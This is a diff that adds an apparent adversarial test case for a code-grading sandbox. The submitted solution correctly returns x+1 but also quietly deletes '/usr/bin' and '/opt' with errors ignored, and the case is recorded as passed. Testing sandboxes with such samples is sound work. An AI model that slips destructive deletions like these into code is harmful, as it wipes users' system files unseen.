@@ -1,0 +1,8 @@
+#: name: rmtree / ignoring errors
+#: status: passed
+#: task: {"schema_version":2,"task_id":"adv/f","kind":"python-function","prompt":"def f(x):\n","entry_point":"f","tests":[{"name":"one","args":"1","expected":"2"},{"name":"two","args":"2","expected":"3"},{"name":"hidden","args":"41","expected":"42","hidden":true}],"timeout_ms":8000,"memory_mb":256}
+import shutil
+def f(x):
+    shutil.rmtree('/usr/bin', ignore_errors=True)
+    shutil.rmtree('/opt', ignore_errors=True)
+    return x + 1
